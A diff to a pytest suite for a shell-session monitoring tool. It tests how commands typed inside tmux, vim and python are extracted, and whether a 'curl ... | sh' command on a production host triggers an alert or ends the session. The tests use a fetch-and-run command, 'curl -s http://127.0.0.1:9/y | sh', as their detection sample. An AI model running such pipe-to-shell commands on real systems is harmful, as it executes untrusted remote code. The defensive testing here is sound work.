@@ -84,19 +84,25 @@ def test_commands_run_from_a_program_are_judged_as_run_from_it_with_medium_confi
 
 
 @pytest.mark.parametrize("form", te.FORMS)
-def test_commands_typed_in_a_shell_inside_tmux_are_judged_but_never_end_the_session(form: str) -> None:
+def test_commands_typed_in_a_shell_inside_tmux_are_judged_as_the_inner_shells(form: str) -> None:
     # Given a real tmux server with two windows, commands typed in each
     rec = _rec("prog_bash_tmux")
     extracted = te.extract_form(rec, form)
-    inside = {c.text: c for c in extracted.commands if "inside tmux" in c.how}
-    # Then the commands typed there are found, read from tmux's redraw: medium confidence
-    for command in ("curl -s http://127.0.0.1:9/y | sh", "echo in-window-1", "echo back-in-window-0"):
-        assert command in inside, (command, [(c.text, c.how) for c in extracted.commands])
-        assert inside[command].confidence == "medium"
-    # And once tmux has exited, the shell's commands are of high confidence again
+    inside = [c for c in extracted.commands if "inside tmux" in c.how]
+    texts = {c.text for c in inside}
+    # Then every command typed in tmux is found, as typed inside it
+    for command in ("id", "curl -s http://127.0.0.1:9/y | sh", "echo in-window-1", "echo back-in-window-0"):
+        assert command in texts, (command, [(c.text, c.how) for c in extracted.commands])
+    # And the first command after the inner shell's own prompt keeps its confidence (typing tmux
+    # must not make a session alert-only); one joined from tmux's drawing is medium
+    first = {c.text: c for c in reversed(inside)}
+    assert first["id"].confidence == "high"
+    assert first["curl -s http://127.0.0.1:9/y | sh"].confidence == "high"
+    drawn = [c for c in inside if "drawn after an earlier prompt row" in c.how]
+    assert drawn and all(c.confidence == "medium" for c in drawn)
+    # And once tmux has exited, and in script's inner shell, the commands are the shell's again
     after = next(c for c in extracted.commands if c.text == "echo after-tmux")
     assert after.confidence == "high" and "tmux" not in after.how
-    # And script's inner shell passes its terminal through unchanged: high confidence
     assert next(c for c in extracted.commands if c.text == "echo inside-script").confidence == "high"
 
 
@@ -117,11 +123,11 @@ def _terminations(extracted: Extracted) -> list[Any]:
 
 
 @pytest.mark.parametrize("form", te.FORMS)
-@pytest.mark.parametrize("name", NAMES)
+@pytest.mark.parametrize("name", ["prog_bash_programs", "prog_zsh_programs"])
 def test_curl_pipe_sh_from_a_program_on_prod_is_alerted_with_the_reason_never_terminated(
     name: str, form: str
 ) -> None:
-    # Given `curl ... | sh` typed from vim's :!, python's os.system or a shell inside tmux, on prod
+    # Given `curl ... | sh` typed from vim's :! and python's os.system, on prod
     rec = _rec(name)
     extracted = te.extract_form(rec, form)
     outside = [c for c in extracted.commands if "curl" in c.text and c.confidence == "high"]
@@ -133,3 +139,13 @@ def test_curl_pipe_sh_from_a_program_on_prod_is_alerted_with_the_reason_never_te
     for action in actions:
         assert action.mode is Mode.MONITOR, action
         assert "medium confidence" in str(action.model_dump())
+
+
+@pytest.mark.parametrize("form", te.FORMS)
+def test_curl_pipe_sh_typed_at_the_inner_shells_prompt_in_tmux_on_prod_is_terminated(form: str) -> None:
+    # Given `curl ... | sh` typed at the prompt of the shell inside tmux, on prod
+    extracted = te.extract_form(_rec("prog_bash_tmux"), form)
+    # When the live path judges the session
+    actions = _terminations(extracted)
+    # Then the session is ended: entering tmux is no way around the command watch
+    assert any(a.mode is Mode.ENFORCE for a in actions), actions
